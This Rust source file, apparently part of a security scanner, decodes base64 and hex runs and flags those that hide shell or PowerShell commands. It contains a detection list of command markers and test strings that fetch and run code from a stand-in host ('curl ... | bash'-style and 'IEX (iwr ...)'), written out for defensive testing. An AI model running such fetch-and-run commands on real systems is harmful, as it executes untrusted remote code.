//! Text that becomes a command once it is decoded: runs of base64 and of hexadecimal digits, looked at as what they stand for.

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::rules::{Rules, Severity};
use super::{Deadline, OutOfTime};
use crate::policy::names::cut;

/// Shorter ones hold no command.
const SHORTEST: usize = 20;
/// As much of a run as is decoded.
const LONGEST: usize = 64 << 10;
/// How many are told for one file.
const TOLD: usize = 3;
/// Characters of what is shown.
const SHOWN: usize = 120;

/// What a shell or an interpreter would be given, in lower case.
const COMMANDS: [&str; 14] = [
    "/bin/sh",
    "/bin/bash",
    "curl ",
    "wget ",
    "bash -",
    "sh -c",
    "eval(",
    "exec(",
    "system(",
    "import os",
    "import socket",
    "subprocess",
    "child_process",
    "powershell",
];

/// Each run that decodes to a command: rule, place, what it says.
pub fn look(text: &str, rules: &Rules, deadline: Deadline) -> Result<Vec<(&'static str, usize, String)>, OutOfTime> {
    let mut found = Vec::new();
    let mut offset = 0;
    for run in text.split(|letter: char| !is_part(letter)) {
        if run.len() >= SHORTEST && found.len() < TOLD {
            deadline.check()?;
            if let Some(command) = decode(run).into_iter().find(|plain| is_command(plain, rules)) {
                found.push(("hidden-command", offset, cut(command.trim(), SHOWN)));
            }
        }
        offset = offset_after(text, offset + run.len());
    }
    Ok(found)
}

/// Past the one letter that divided.
fn offset_after(text: &str, end: usize) -> usize {
    end + text.get(end..).and_then(|rest| rest.chars().next()).map_or(0, char::len_utf8)
}

fn is_part(letter: char) -> bool {
    letter.is_ascii_alphanumeric() || matches!(letter, '+' | '/' | '=' | '-' | '_')
}

/// What it may stand for, where that is text.
fn decode(run: &str) -> Vec<String> {
    let run = run.get(..run.len().min(LONGEST)).unwrap_or_default().trim_end_matches('=');
    let even = |text: &str, unit: usize| text.get(..text.len() - text.len() % unit).unwrap_or_default().to_owned();
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let standard = run.replace('-', "+").replace('_', "/");
    // A run of 4n+1 letters is cut by one: something stood right before or after it.
    let whole = if standard.len() % 4 == 1 { even(&standard, 4) } else { standard };
    let from_base64 = GeneralPurpose::new(&alphabet::STANDARD, config).decode(whole).ok();
    let from_hex = hex(&even(run, 2));
    [from_base64, from_hex].into_iter().flatten().filter_map(as_text).collect()
}

fn hex(run: &str) -> Option<Vec<u8>> {
    let digits: Option<Vec<u8>> =
        run.chars().map(|digit| digit.to_digit(16).and_then(|d| u8::try_from(d).ok())).collect();
    Some(digits?.chunks_exact(2).map(|pair| pair.iter().fold(0, |byte, digit| byte << 4 | digit)).collect())
}

/// UTF-8 or, as PowerShell wants it, UTF-16.
fn as_text(bytes: Vec<u8>) -> Option<String> {
    let wide = bytes.chunks_exact(2).filter(|pair| pair.get(1) == Some(&0)).count() * 2 > bytes.len() / 2;
    let text = if wide {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| pair.iter().rev().fold(0, |unit, byte| unit << 8 | u16::from(*byte)))
            .collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    let plain = text.chars().all(|letter| !letter.is_control() || matches!(letter, '\n' | '\r' | '\t' | '\0'));
    plain.then_some(text)
}

fn is_command(text: &str, rules: &Rules) -> bool {
    let lower = text.to_ascii_lowercase();
    let worse = |line: &str| {
        rules.rules.iter().any(|rule| {
            let may =
                rule.severity == Severity::Critical && rule.needs.iter().any(|need| lower.contains(need.as_str()));
            may && rule.find(line).is_some()
        })
    };
    COMMANDS.iter().any(|command| lower.contains(command)) || text.lines().take(100).any(worse)
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    use super::*;

    fn found(text: &str) -> usize {
        let rules = Rules::shipped().expect("the shipped rules");
        look(text, &rules, Deadline(Instant::now() + Duration::from_secs(60))).expect("time").len()
    }

    #[test]
    fn a_command_is_found_in_whatever_it_is_wrapped() {
        let command = "/bin/bash -c \"$(curl -fsSL http://x.example/q)\"";
        let digits: String = command.bytes().map(|byte| format!("{byte:02x}")).collect();
        let wide: Vec<u8> = "IEX (iwr x.example); powershell".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for hidden in [STANDARD.encode(command), URL_SAFE_NO_PAD.encode(command), digits, STANDARD.encode(wide)] {
            assert_eq!(found(&format!("echo '{hidden}' | x")), 1, "{hidden}");
        }
    }

    #[test]
    fn keys_digests_pictures_and_words_are_left_alone() {
        let picture = STANDARD.encode([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3, 0xff, 0xfe, 9, 9, 9, 9, 9, 9, 9, 9]);
        for harmless in [
            "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "averylongidentifierthatisjustaword_and_another",
            &picture,
            &STANDARD.encode("just a harmless sentence, encoded"),
        ] {
            assert_eq!(found(harmless), 0, "{harmless}");
        }
    }
}
